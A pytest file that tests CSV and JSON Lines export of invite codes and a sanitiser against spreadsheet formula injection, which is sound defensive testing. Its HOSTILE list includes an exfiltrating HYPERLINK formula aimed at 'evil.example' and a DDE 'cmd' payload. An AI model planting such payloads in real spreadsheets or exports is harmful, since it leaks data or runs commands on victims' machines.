import csv
import json
import tracemalloc
from collections import deque
from datetime import UTC, datetime
from io import BytesIO, StringIO

import openpyxl
import pytest
import tablib

from invite_code import exporting
from invite_code.codes import CodeFormat
from invite_code.exporting import (
    COLUMNS,
    FORMATS,
    as_csv,
    as_json_lines,
    rows,
    without_formulas,
)
from invite_code.handing_out import given, hand_out
from invite_code.issuing import issue
from invite_code.models import InviteBatch, InviteCode
from tests.factories import InviteBatchFactory, InviteCodeFactory, RedemptionFactory

pytestmark = pytest.mark.django_db

EARLY, LATE = (datetime(year, 3, 4, 5, 6, 7, tzinfo=UTC) for year in (2030, 2040))

#: Texts that some spreadsheet takes for a formula.
HOSTILE = [
    "=1+1",
    'x;"=1+1;y',
    'x\t"=1+1\ty',
    '=HYPERLINK("https://evil.example?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\tplain",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0\u3000=1",
    "\ufeff=1",
    "\u200b=1",
    "\x01=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    'harmless;=1+1;"',
    "harmless\n=1",
    "harmless\t@1",
]
HARMLESS = ["", "Newsletter", "a=b", "1-2", "me@example.org", "a; b", "it's", '"="']


@pytest.fixture
def small_chunks(monkeypatch):
    monkeypatch.setattr(exporting, "CHUNK_SIZE", 4)
    monkeypatch.setattr(exporting, "CHUNKS_AHEAD", 2)


def shown(codes):
    return [CodeFormat().display(code) for code in codes.values_list("code", flat=True)]


def spreadsheet(text):
    """Return the cells of a CSV file that went through a spreadsheet."""
    sheet = tablib.Dataset().load(text, format="csv")
    book = openpyxl.load_workbook(BytesIO(sheet.export("xlsx")))
    return list(book.active.iter_rows())


def test_a_row_tells_what_is_known_of_a_code():
    batch = InviteBatchFactory(label="Newsletter")
    code = InviteCodeFactory(
        batch=batch,
        uses=2,
        max_uses=7,
        valid_from=EARLY,
        expires_at=LATE,
        email="Reader@Example.org",
        created_at=EARLY,
    )
    [row] = rows(batch.codes.all())
    assert row == {
        "code": CodeFormat().display(code.code),
        "batch": batch.pk,
        "label": "Newsletter",
        "recipient": "",
        "uses": 2,
        "max_uses": 7,
        "valid_from": "2030-03-04T05:06:07+00:00",
        "expires_at": "2040-03-04T05:06:07+00:00",
        "revoked_at": None,
        "email": "reader@example.org",
        "created_at": "2030-03-04T05:06:07+00:00",
    }
    assert tuple(row) == COLUMNS


def test_a_row_names_who_was_given_the_code():
    batch = issue(3)
    line = hand_out(batch, 2, to="The Daily Planet")
    recipients = [row["recipient"] for row in rows(batch.codes.all())]
    assert recipients == ["The Daily Planet", "The Daily Planet", ""]
    assert [row["code"] for row in rows(given(line, "default"))] == [
        row["code"] for row in rows(batch.codes.filter(hand_out=line))
    ]


@pytest.mark.parametrize(
    ("of_code", "of_batch", "told"),
    [
        (None, None, None),
        (LATE, None, LATE),
        (None, LATE, LATE),
        (EARLY, LATE, EARLY),
        (LATE, EARLY, EARLY),
    ],
)
def test_a_row_says_when_the_code_or_its_batch_was_revoked_first(
    of_code, of_batch, told
):
    batch = InviteBatchFactory(revoked_at=of_batch)
    InviteCodeFactory(batch=batch, revoked_at=of_code)
    [row] = rows(batch.codes.all())
    assert row["revoked_at"] == (told and told.isoformat())


def test_without_time_zones_moments_have_the_offset_of_the_site(settings):
    settings.USE_TZ = False
    settings.TIME_ZONE = "Asia/Tokyo"
    code = InviteCodeFactory(expires_at=datetime(2030, 3, 4, 5, 6, 7))
    [row] = rows(InviteCode.objects.filter(pk=code.pk))
    assert row["expires_at"] == "2030-03-04T05:06:07+09:00"


@pytest.mark.parametrize("count", [0, 1, 4, 5, 8, 9, 17])
def test_every_code_is_told_once_in_the_order_of_primary_keys(small_chunks, count):
    batch = InviteBatchFactory()
    for _ in range(count):
        InviteCodeFactory(batch=batch)
        InviteCodeFactory()  # So that primary keys have gaps.
    codes = batch.codes.order_by("-pk")
    assert [row["code"] for row in rows(codes)] == shown(batch.codes.order_by("pk"))


def test_codes_with_neighboring_keys_that_were_not_chosen_are_not_told(small_chunks):
    chosen = issue(9).codes.order_by("pk")
    chosen.filter(pk=chosen[2].pk).update(email="reader@example.org")
    others = chosen.filter(email="")
    assert [row["code"] for row in rows(others)] == shown(others)
    assert len(shown(others)) == 8


def test_codes_that_a_join_repeats_are_told_once(small_chunks):
    chosen = [InviteCodeFactory(max_uses=None) for _ in range(10)]
    for code in [*chosen[:2], chosen[1], *chosen[3:], *chosen]:
        if code is not chosen[2]:
            RedemptionFactory(code=code)
    codes = InviteCode.objects.filter(redemptions__user__isnull=False)
    told = [CodeFormat().display(c.code) for c in chosen if c is not chosen[2]]
    assert [row["code"] for row in rows(codes)] == told


def test_queries_grow_with_chunks_and_not_with_codes(
    small_chunks, django_assert_num_queries
):
    batches = [issue(2) for _ in range(10)]
    for batch in batches:
        hand_out(batch, 1, to="Somebody")
    with django_assert_num_queries(4 + 2 * 5):
        codes = InviteCode.objects.filter(batch__in=batches)
        assert len(list(rows(codes))) == 20


@pytest.mark.django_db(databases=["default", "other"])
def test_all_queries_go_to_the_database_of_the_codes():
    batch = issue(3, label="There", using="other")
    hand_out(batch, 1, to="Somebody", using="other")
    codes = InviteCode.objects.using("other").filter(batch=batch)
    told = [(row["label"], row["recipient"]) for row in rows(codes)]
    assert told == [("There", "Somebody"), ("There", ""), ("There", "")]


@pytest.mark.parametrize("format_", FORMATS)
def test_memory_does_not_grow_with_the_codes(monkeypatch, format_):
    monkeypatch.setattr(exporting, "CHUNK_SIZE", 200)
    monkeypatch.setattr(exporting, "CHUNKS_AHEAD", 2)

    def peak(count):
        codes = issue(count).codes.all()
        tracemalloc.start()
        deque(FORMATS[format_](codes), 0)
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return most

    peak(1)  # What is kept from the first time on does not count.
    few, many = peak(800), peak(3200)
    assert many < 1.2 * few


@pytest.mark.parametrize("format_", FORMATS)
def test_pieces_are_large_and_progress_is_told(small_chunks, format_):
    codes, told = issue(9).codes.all(), []
    pieces = list(FORMATS[format_](codes, told.append))
    assert len(pieces) == 3 + (format_ == "csv")
    assert told == [4, 8, 9]


def test_csv_is_read_again_as_it_was_told():
    batch = issue(3, label='A "quoted", label\nof two lines', max_uses=None)
    hand_out(batch, 1, to="Zoë, 北京")
    told = list(rows(batch.codes.all()))
    text = "".join(as_csv(batch.codes.all()))
    assert list(csv.DictReader(StringIO(text, newline=""))) == [
        {name: "" if value is None else str(value) for name, value in row.items()}
        for row in told
    ]
    assert text.count("\r\n") == 4


def test_csv_of_no_code_has_a_header():
    assert "".join(as_csv(InviteCode.objects.none())) == ",".join(COLUMNS) + "\r\n"


def test_json_lines_are_read_again_as_they_were_told():
    batch = issue(3, label="=1+1\u2028\n", max_uses=None)
    hand_out(batch, 1, to="Zoë, 北京")
    lines = "".join(as_json_lines(batch.codes.all())).splitlines()
    assert [json.loads(line) for line in lines] == list(rows(batch.codes.all()))


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_be_a_formula_gets_an_apostrophe(text):
    safe = without_formulas(text)
    assert safe != text
    assert safe.replace("'", "") == text.replace("'", "")
    for cell in safe.replace("\n", ";").replace("\r", ";").split(";"):
        assert not cell.strip('"\ufeff\u200b\x01 \t\u00a0\u3000').startswith(
            ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
        )


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_as_it_is(text):
    assert without_formulas(text) == text


def hostile_codes():
    """Save codes whose label, recipient and address are hostile; return them."""
    batches = []
    for text in HOSTILE:
        if "\x01" in text:  # A workbook cannot hold it.
            continue
        batch = issue(2, label=text, email="=1+1@example.org")
        hand_out(batch, 1, to=text)
        batches.append(batch)
    return InviteCode.objects.filter(batch__in=batches).order_by("pk")


def test_a_spreadsheet_shows_codes_unaltered_and_no_formula():
    codes = hostile_codes()
    header, *cells = spreadsheet("".join(as_csv(codes)))
    assert [cell.value for cell in header] == list(COLUMNS)
    assert [row[0].value for row in cells] == shown(codes)
    assert "f" not in {cell.data_type for row in cells for cell in row}


def test_the_spreadsheet_would_take_some_of_it_for_formulas(monkeypatch):
    monkeypatch.setattr(exporting, "without_formulas", str)
    cells = spreadsheet("".join(as_csv(hostile_codes())))
    formulas = [cell for row in cells for cell in row if cell.data_type == "f"]
    assert {cell.column for cell in formulas} == {3, 4, 10}
    assert InviteBatch.objects.filter(label=formulas[0].value).exists()
